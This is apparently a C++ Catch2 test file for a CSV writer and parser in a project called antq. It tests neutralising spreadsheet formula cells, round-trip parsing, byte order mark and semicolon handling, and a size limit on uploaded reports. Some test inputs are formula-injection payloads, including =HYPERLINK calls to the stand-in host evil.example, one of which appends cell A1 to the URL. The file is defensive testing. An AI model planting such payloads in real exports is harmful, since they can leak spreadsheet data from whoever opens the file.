// cli/csv.cpp: RFC 4180 fields, formula-looking cells neutralised for spreadsheets, and read back as written.
#include "cli/csv.hpp"

#include <fmt/format.h>

#include <catch2/catch.hpp>

namespace antq::cli {
namespace {

TEST_CASE("A cell a spreadsheet would run as a formula gets a quote before it, and is quoted", "[csv]") {
  CHECK(csv_field("=HYPERLINK(\"http://evil.example\",\"x\")") ==
        "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"");
  CHECK(csv_field("+1") == "\"'+1\"");
  CHECK(csv_field("-2") == "\"'-2\"");
  CHECK(csv_field("@SUM(A1:A9)") == "\"'@SUM(A1:A9)\"");
  CHECK(csv_field("\t=1+1") == "\"'\t=1+1\"");
  CHECK(csv_field("\r=1+1") == "\"'\r=1+1\"");
  CHECK(csv_field("=1,2") == "\"'=1,2\"");
  // Quotes then a formula character: one quote more, so that reading removes exactly one.
  CHECK(csv_field("'=x") == "\"''=x\"");
  CHECK(csv_field("''-1") == "\"'''-1\"");
}

TEST_CASE("Other cells, and the counts antq writes, are written as they are", "[csv]") {
  CHECK(csv_field("Tổ dân cư tự quản về ANTT") == "Tổ dân cư tự quản về ANTT");
  CHECK(csv_field("0") == "0");
  CHECK(csv_field("12345") == "12345");
  CHECK(csv_field("2024-11-14") == "2024-11-14");
  CHECK(csv_field("a=b") == "a=b");            // only the first character counts
  CHECK(csv_field("'quoted'") == "'quoted'");  // a quote not followed by a formula character
  CHECK(csv_field("") == "");
  CHECK(csv_field("'") == "'");
  CHECK(csv_field("Camera an ninh, xóm Đông") == "\"Camera an ninh, xóm Đông\"");
  CHECK(csv_field("say \"hi\"") == "\"say \"\"hi\"\"\"");
  CHECK(csv_record({"section", "key", "value"}) == "section,key,value\r\n");
}

TEST_CASE("parse_csv gives back every field csv_record was given, neutralised or not", "[csv]") {
  const std::vector<std::vector<std::string>> records = {
      {"section", "key", "value"},
      {"points", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "3"},
      {"points", "+1", "1"},
      {"points", "-2", "2"},
      {"points", "@SUM(A1:A9)", "4"},
      {"apart", "\tTAB", "\r=CR"},
      {"points", "'=already quoted", "''+1"},
      {"points", "'plain quote", "'"},
      {"points", "Camera an ninh, xóm Đông", "line\r\nbreak \"quoted\""},
      {"report", "unit", ""},
  };
  std::string text;
  for (const auto& r : records) text += csv_record(r);
  auto parsed = parse_csv(text, "t.csv");
  REQUIRE(parsed);
  CHECK(*parsed == records);
}

TEST_CASE("A hand-written cell with the quote a spreadsheet keeps reads as its text", "[csv]") {
  auto parsed = parse_csv("section,key,value\r\npoints,'=X,'-3\r\n", "t.csv");
  REQUIRE(parsed);
  REQUIRE(parsed->size() == 2);
  CHECK((*parsed)[1] == std::vector<std::string>{"points", "=X", "-3"});
}

TEST_CASE("A CSV a spreadsheet saved: its byte order mark skipped, semicolons separate when the header has no comma",
          "[csv]") {
  auto parsed =
      parse_csv("\xEF\xBB\xBFsection;key;value\r\npoints;Tổ an ninh, trật tự;3\r\npoints;\"a;b\";'=X\r\n", "t.csv");
  REQUIRE(parsed);
  REQUIRE(parsed->size() == 3);
  CHECK((*parsed)[0] == std::vector<std::string>{"section", "key", "value"});
  CHECK((*parsed)[1] == std::vector<std::string>{"points", "Tổ an ninh, trật tự", "3"});
  CHECK((*parsed)[2] == std::vector<std::string>{"points", "a;b", "=X"});
  // A comma in the header outside quotes: commas separate, and a ';' is text.
  parsed = parse_csv("\xEF\xBB\xBFsection,key,value\r\npoints,a;b,1\r\n", "t.csv");
  REQUIRE(parsed);
  CHECK((*parsed)[1] == std::vector<std::string>{"points", "a;b", "1"});
  // A ';' inside a quoted header field does not make ';' the separator.
  parsed = parse_csv("\"a;b\",c\r\n", "t.csv");
  REQUIRE(parsed);
  CHECK((*parsed)[0] == std::vector<std::string>{"a;b", "c"});
}

TEST_CASE("for_each_csv_record gives one record at a time and stops at the first error it returns", "[csv]") {
  std::vector<std::vector<std::string>> seen;
  auto read = for_each_csv_record("a,b\r\n\r\nc\r\nd\r\n", "t.csv", [&](std::vector<std::string>& r) -> Status {
    seen.push_back(r);
    if (r[0] == "c") return bad_input(i18n::Text::verbatim("enough"));
    return {};
  });
  REQUIRE_FALSE(read);
  CHECK(read.error().line() == "enough");
  CHECK(seen == std::vector<std::vector<std::string>>{{"a", "b"}, {""}, {"c"}});
}

TEST_CASE("An uploaded report of more records than a report holds is refused as it is read", "[csv]") {
  const std::string head = "section,key,value\r\nreport,period,2026\r\nreport,as_of,2026-11-14\r\n";
  // Blank lines count: millions of them once took a vector each.
  auto blank = parse_submitted_report(head + std::string(kMaxReportRecords, '\n'), "r.csv");
  REQUIRE_FALSE(blank);
  CHECK(blank.error().line() ==
        fmt::format("r.csv: more than {} records: not a report of antq report", kMaxReportRecords));
  // The header, two report rows, the blank lines and one figure: kMaxReportRecords records exactly.
  auto fits = parse_submitted_report(head + std::string(kMaxReportRecords - 4, '\n') + "points,M,1\r\n", "r.csv");
  REQUIRE(fits);
  CHECK(fits->figures.size() == 1);
  CHECK(fits->report.at("period") == "2026");
}

}  // namespace
}  // namespace antq::cli
